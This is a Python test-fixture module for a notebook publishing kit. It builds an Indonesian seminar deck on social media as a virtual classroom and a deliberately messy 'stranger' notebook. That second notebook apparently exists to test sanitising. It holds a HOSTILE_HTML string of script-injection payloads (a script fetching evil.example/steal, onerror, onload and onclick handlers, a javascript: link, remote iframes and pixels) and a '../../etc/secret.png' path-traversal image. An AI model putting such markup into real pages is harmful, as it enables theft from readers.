"""Notebooks that tests publish: one in the manner of the kit, one of a stranger."""

import base64
import struct
import zlib
from pathlib import Path
from typing import Any

from workshop import i18n
from workshop.charts import CHART_MIME, CHOICES_MIME, PLOTLY_MIME, Chart, Choice, Series
from workshop.charts import combinations as all_combinations
from workshop.publishing.notebook import Notebook, parse

PLATFORMS = {
    "Facebook": 54.0,
    "Instagram": 15.0,
    "YouTube": 11.0,
    "Google+": 6.0,
    "Twitter": 5.5,
    "LinkedIn": 0.6,
}
CONTENT = {
    "Melihat foto": 72.79,
    "Mengunduh musik": 71.1,
    "Mengunduh film": 70.23,
    "Mesin pencari": 74.84,
    "Menonton video": 69.64,
    "Hiburan": 58.01,
    "Berita": 57.13,
    "Mengunduh gambar": 56.77,
    "Membaca artikel": 55.3,
    "Permainan": 54.13,
}
Json = dict[str, Any]


def markdown(text: str, slide: str = "", **more: Any) -> Json:
    """Return a prose cell."""
    return {"cell_type": "markdown", "source": text, "metadata": _metadata(slide, more)} | {
        key: value for key, value in more.items() if key == "attachments"
    }


def code(text: str, *outputs: Json, slide: str = "", **more: Any) -> Json:
    """Return a code cell with what it showed."""
    cell = {"cell_type": "code", "source": text, "outputs": list(outputs)}
    return cell | {"execution_count": 1, "metadata": _metadata(slide, more)}


def _metadata(slide: str, more: Json) -> Json:
    metadata: Json = {"tags": more.get("tags", [])}
    if slide:
        metadata["slideshow"] = {"slide_type": slide}
    if "minutes" in more:
        metadata["workshop"] = {"minutes": more["minutes"]}
    return metadata


def shows(**data: Any) -> Json:
    """Return an output; ``text__html`` stands for ``text/html``."""
    bundle = {key.replace("__", "/"): value for key, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": bundle}


def bundle(mime: str, value: Any) -> Json:
    """Return an output of one MIME type."""
    return {"output_type": "display_data", "metadata": {}, "data": {mime: value}}


def prints(text: str) -> Json:
    """Return what a cell printed."""
    return {"output_type": "stream", "name": "stdout", "text": text}


def png(width: int = 900, height: int = 480) -> str:
    """Return a picture of two colours in base64."""
    row = b"\0" + b"\x00\x72\xb2" * (width // 2) + b"\xe6\x9f\x00" * (width - width // 2)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (b"IHDR", header), (b"IDAT", zlib.compress(row * height)), (b"IEND", b"")
    chunks = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + chunks).decode()


def platforms(order: str = "percent", highlight: str = "none") -> Chart:
    """Return the published platform shares, sorted and highlighted."""
    names = sorted(PLATFORMS, key=str.lower if order == "name" else lambda n: -PLATFORMS[n])
    return Chart(
        title="Media sosial yang paling sering dipakai mahasiswa",
        categories=tuple(names),
        series=(Series("2017", tuple(PLATFORMS[name] for name in names)),),
        highlight=frozenset({"Facebook"} if highlight == "top" else ()),
        highlight_label="Terbanyak",
        source="APJII, survei 2017",
    )


def content() -> Chart:
    """Return a chart with many bars in two series."""
    names = tuple(CONTENT)
    values = tuple(CONTENT.values())
    second = tuple(None if value < 56 else round(value - 7.5, 2) for value in values)
    return Chart(
        title="Isi yang dibuka mahasiswa di internet, 2017 dan sesudahnya",
        categories=names,
        series=(Series("2017", values), Series("2025", second)),
        source="APJII 2017 dan 2025; pertanyaan keduanya berbeda",
    )


def choices() -> Json:
    """Return the display bundle of a chart with two controls."""
    controls = {
        "order": Choice("Urutkan", {"percent": "Terbesar dahulu", "name": "Menurut abjad"}),
        "highlight": Choice("Sorot", {"none": "Tidak ada", "top": "Yang terbanyak"}),
    }
    drawn = all_combinations(platforms, controls)
    return {
        "controls": [
            {
                "name": name,
                "label": choice.label,
                "options": [{"value": v, "label": t} for v, t in choice.options.items()],
            }
            for name, choice in controls.items()
        ],
        "charts": {"|".join(key): chart.to_json() for key, chart in drawn.items()},
    }


def dataframe(rows: int, columns: int = 4) -> str:
    """Return a table as pandas writes it."""
    head = "".join(f"<th>kolom {n}</th>" for n in range(columns))
    body = "".join(
        f"<tr><th>{r}</th>{''.join(f'<td>{r * n + 0.25:.2f}</td>' for n in range(columns))}</tr>"
        for r in range(rows)
    )
    return (
        "<div><style scoped>.dataframe td{color:red}</style>"
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;">'
        f"<th></th>{head}</tr></thead><tbody>{body}</tbody></table></div>"
    )


def seminar(language: str = "id") -> Notebook:
    """Return a deck with everything that the kit itself uses."""
    with i18n.use(language):
        cells = _seminar()
    metadata = {"lang": language, "workshop": {"minutes": 30}}
    return parse({"cells": cells, "metadata": metadata}, name="seminar", folder=Path())


def _seminar() -> list[Json]:
    return [
        markdown(
            "# Membangun ruang kelas virtual melalui media sosial\n\nBagaimana media sosial yang "
            "dipakai setiap hari dapat menjadi ruang belajar bersama.",
            "slide",
            minutes=3,
        ),
        markdown(
            "Ucapkan **selamat datang**.\n\n- sebut tuan rumah\n- sebut susunan acara", "notes"
        ),
        markdown("## Bagian satu: potret media sosial", "slide", minutes=5),
        markdown(
            "## Mengapa media sosial?\n\n- **87,13 %** mahasiswa paling sering memakai media "
            "sosial\n- Dosen dan mahasiswa sudah ada di sana\n- Kelas dapat melintasi batas "
            "tempat dan perguruan tinggi\n\n> **Pertanyaan.** Media sosial mana yang Anda buka "
            "paling dahulu pagi ini?\n\n*Sumber: APJII, survei 2017*",
            "slide",
        ),
        markdown("Tunggu sampai **lima tangan** terangkat.", "notes"),
        markdown("## Facebook masih di depan", "slide", minutes=6),
        code("c = 1", _chart_output(platforms()), tags=["hide-input"]),
        markdown("Jelaskan bahwa angkanya dari tahun 2017.", "notes"),
        markdown("## Putar sendiri urutannya", "subslide"),
        code("choose()", bundle(CHOICES_MIME, choices()), tags=["hide-input"]),
        markdown("## Banyak batang tetap terbaca", "slide"),
        code("c", _chart_output(content()), tags=["hide-input"]),
        markdown("## Ukuran sampel", "slide", minutes=4),
        markdown(
            "Dengan populasi $N = 300$ dan galat $e = 5\\,\\%$:\n\n"
            "$$n = \\frac{N}{1 + N e^2} = \\frac{300}{1 + 300 \\cdot 0{,}05^2} \\approx 171$$"
        ),
        markdown("Studi aslinya memakai **168** mahasiswa.", "fragment"),
        markdown(
            "## Dua sisi media sosial\n\n| Sisi baik | Sisi buruk |\n|---|---|\n"
            "| Kelompok belajar | Kecanduan |\n| Menyambung pertemanan | Berita bohong |\n"
            "| Promosi | Tugas kuliah terbengkalai |\n| Reuni | Penipuan |",
            "slide",
        ),
        markdown("## Satu baris kode", "slide"),
        code(
            "import pandas as pd\n\nshares = pd.read_csv('platforms.csv')\n"
            "# the three largest\nshares.nlargest(3, 'percent')",
            shows(text__html=dataframe(3)),
        ),
        code("secret_answer = 42", tags=["solution"]),
        code("exercises.hint('secret hint')", tags=["hint"]),
        markdown("Hanya untuk fasilitator: rahasia.", tags=["facilitator"]),
        markdown("Terlalu rinci untuk layar: dilewati.", "skip"),
    ]


def _chart_output(chart: Chart) -> Json:
    data = {PLOTLY_MIME: chart.to_plotly(), CHART_MIME: chart.to_json(), "text/plain": chart.alt}
    return {"output_type": "display_data", "metadata": {}, "data": data}


HOSTILE_HTML = (
    '<script>window.stolen = 1; fetch("https://evil.example/steal")</script>'
    '<p onclick="steal()">Readable text from HTML</p>'
    '<img src="https://evil.example/pixel.png" alt="a remote picture" onerror="steal()">'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<link rel="stylesheet" href="https://evil.example/a.css">'
    '<div style="background:url(https://evil.example/b.png);color:red">styled</div>'
    '<svg onload="steal()"><image href="https://evil.example/c.png"/></svg>'
    '<a href="javascript:steal()">bad link</a> <a href="https://example.org/">good link</a>'
)


def stranger(folder: Path | None = None) -> Notebook:
    """Return a stranger's notebook as the publishers take it."""
    return parse(stranger_content(), name="stranger", folder=folder or Path())


def stranger_content() -> Json:
    """Return a notebook that knows nothing of the kit: no slide types, no tags, no alt texts."""
    long_code = "\n".join(f"value_{n} = compute(value_{n - 1}, {n})  # step {n}" for n in range(45))
    figure = {
        "data": [
            {"type": "scatter", "x": [1, 2, 3], "y": [2, 1, 3], "name": "one"},
            {"type": "bar", "x": ["a", "b"], "y": [1.5, 2.5], "name": "two"},
        ],
        "layout": {
            "title": {"text": "Their <b>figure</b>"},
            "width": 3000,
            "images": [{"source": "https://evil.example/logo.png", "x": 0, "y": 1}],
        },
    }
    surface = {"data": [{"type": "surface", "z": [[1, 2, 3], [2, 3, 4], [3, 4, 6]]}], "layout": {}}
    globe = {"data": [{"type": "scattergeo", "lat": [0], "lon": [110]}], "layout": {}}
    cells = [
        markdown(
            "# Analysis of something\n\nBy a *stranger*. $a^2+b^2=c^2$ and $\\undefinedmacro{"
        ),
        code(
            "import pandas as pd\ndf = pd.read_csv('x.csv')\ndf",
            shows(text__html=dataframe(30, 14)),
        ),
        markdown(
            "## Pictures\n\n![remote](https://evil.example/d.png) ![outside](../../etc/secret.png) "
            "![inside](picture.png)\n\n![](attachment:pasted.png)",
            attachments={"pasted.png": {"image/png": png(300, 120)}},
        ),
        code("plt.plot(x)", shows(image__png=png(), text__plain="<Figure size 640x480>")),
        code("fig.show()", bundle(PLOTLY_MIME, figure)),
        code("fig3d.show()", bundle(PLOTLY_MIME, surface)),
        code("world.show()", bundle(PLOTLY_MIME, globe)),
        code("display(HTML(page))", shows(text__html=HOSTILE_HTML)),
        markdown('<div class="alert alert-block alert-warning">A Jupyter <b>alert</b></div>'),
        markdown("### Long code\n\n" + "A sentence that goes on and on. " * 40),
        code(long_code, prints("line of output\n" * 80)),
        code(
            "1/0",
            {
                "output_type": "error",
                "ename": "ZeroDivisionError",
                "evalue": "division by zero",
                "traceback": ["\u001b[0;31mZeroDivisionError\u001b[0m", "division by zero"],
            },
        ),
        code("x.describe()", shows(text__latex="$\\displaystyle \\int_0^1 x^2 dx$")),
        {"cell_type": "raw", "source": "raw text", "metadata": {}},
        markdown("## The end\n\n" + "\n".join(f"- point {n}" for n in range(18))),
    ]
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}
